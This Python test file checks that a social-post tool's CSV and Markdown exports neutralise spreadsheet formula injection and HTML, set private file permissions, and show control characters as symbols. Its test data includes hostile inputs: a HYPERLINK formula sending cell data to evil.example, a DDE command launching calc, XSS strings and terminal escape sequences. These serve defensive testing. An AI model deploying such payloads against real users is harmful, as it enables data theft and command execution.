"""Exports are safe to open: a spreadsheet shows CSV cells as text instead of running
them (OWASP's CSV injection rule), a Markdown viewer shows a theme as written instead
of rendering it as HTML, and the files are private to their user (0600).

The formats themselves (RFC 4180, RFC 5545) are checked in test_post_exports.py.
"""

from __future__ import annotations

import csv
import io
import json
import stat
from datetime import UTC, datetime
from pathlib import Path

import pytest
from typer.testing import CliRunner

from socialgen.cli.main import app
from socialgen.insights.html_page import render_page
from socialgen.posts.csv_cells import plain_cell, safe_cell
from socialgen.posts.exports import ExportItem, to_csv, to_markdown
from tests.conftest import Store

runner = CliRunner()
WHEN = datetime(2026, 1, 5, 9, 0, tzinfo=UTC)
# What a spreadsheet runs: a formula, a sum, a DDE command, and the same behind a tab
# or a carriage return, which some spreadsheets skip before reading a formula.
FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]
# Text that starts like a formula but is plain: with quotes in front it would come
# back one quote short if the export did not add one more.
QUOTED = ["'=1+1", "''@x", "'-"]
PLAIN = ["Ship weekly", "", "1+1=2", "#buildinpublic", "'quoted'", "a=b", " =spaced"]


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("text", FORMULAS + QUOTED)
def test_a_cell_a_spreadsheet_would_run_starts_with_a_quote(text: str) -> None:
    item = ExportItem(post_id="p1", content=text, date=WHEN, theme=text)
    (_, row) = cells(to_csv([item]))
    assert row[1] == row[4] == f"'{text}"
    assert plain_cell(row[4]) == text


@pytest.mark.parametrize("text", PLAIN)
def test_any_other_cell_is_written_as_it_is(text: str) -> None:
    assert safe_cell(text) == text
    assert plain_cell(text) == text
    item = ExportItem(post_id="p1", content=text or "x", date=WHEN, theme=text)
    (_, row) = cells(to_csv([item]))
    assert row == ["2026-01-05T09:00:00.000Z", text, "draft", "p1", text or "x"]


def test_an_exported_csv_is_imported_back_as_it_was(store: Store, tmp_path: Path) -> None:
    texts = [*FORMULAS[:4], *QUOTED, "Ship weekly"]
    for text in texts:
        store.post(text)
    exported = tmp_path / "posts.csv"
    result = runner.invoke(app, ["posts", "export", "--format", "csv", "-o", str(exported)])
    assert result.exit_code == 0, result.output
    rows = cells(exported.read_text(encoding="utf-8"))[1:]
    assert {row[4] for row in rows} == {safe_cell(text) for text in texts}

    other = store.workspace("Other")
    result = runner.invoke(app, ["posts", "import", str(exported), "-w", other, "--json"])
    assert result.exit_code == 0, result.output
    listed = runner.invoke(app, ["posts", "recent", "-w", other, "--json"])
    assert sorted(p["postContent"] for p in json.loads(listed.stdout)["posts"]) == sorted(texts)


def test_the_markdown_export_escapes_what_it_sets_in_headings_and_lines() -> None:
    item = ExportItem(
        post_id="p1",
        content="<b>kept</b> in the fenced block, as written",
        date=WHEN,
        theme='<img src=x onerror="alert(1)"> *launch* [day](https://evil.example) #',
        variation="<script>x</script>",
    )
    markdown = to_markdown([item], title="Plan <i>Q1</i> & _more_\x1b]0;t\x07")
    assert markdown.startswith("# Plan &lt;i&gt;Q1&lt;/i&gt; &amp; \\_more\\_␛\\]0;t␇\n")
    assert (
        '## 2026-01-05 09:00 UTC · &lt;img src=x onerror="alert(1)"&gt; \\*launch\\* '
        "\\[day\\](https://evil.example) \\#\n"
    ) in markdown
    assert "variation: &lt;script&gt;x&lt;/script&gt;" in markdown
    assert "<img" not in markdown and "<script" not in markdown and "<i>" not in markdown
    assert "\n```text\n<b>kept</b> in the fenced block, as written\n```\n" in markdown


def test_exports_are_private_to_their_user(store: Store, tmp_path: Path) -> None:
    store.post("Not published yet")
    for fmt in ("csv", "json", "md", "ics"):
        fresh = tmp_path / f"posts.{fmt}"
        result = runner.invoke(app, ["posts", "export", "--format", fmt, "-o", str(fresh)])
        assert result.exit_code == 0, result.output
        assert stat.S_IMODE(fresh.stat().st_mode) == 0o600, fmt
    # A file that was there, open to others, is narrowed as it is overwritten.
    older = tmp_path / "older.csv"
    older.write_text("old")
    older.chmod(0o644)
    result = runner.invoke(app, ["posts", "export", "--format", "csv", "-o", str(older)])
    assert result.exit_code == 0, result.output
    assert stat.S_IMODE(older.stat().st_mode) == 0o600
    assert "Not published yet" in older.read_text()


def test_the_insights_page_shows_control_characters_as_symbols() -> None:
    page = render_page({"headline": "Top post\x1b]0;Session expired\x07", "caveats": ["C1\x9b2J"]})
    assert "Top post␛]0;Session expired␇" in page and "C1\\x9b2J" in page
    assert not [char for char in page if ord(char) < 0x20 and char not in "\t\n"]
    assert not [char for char in page if 0x7F <= ord(char) <= 0x9F]
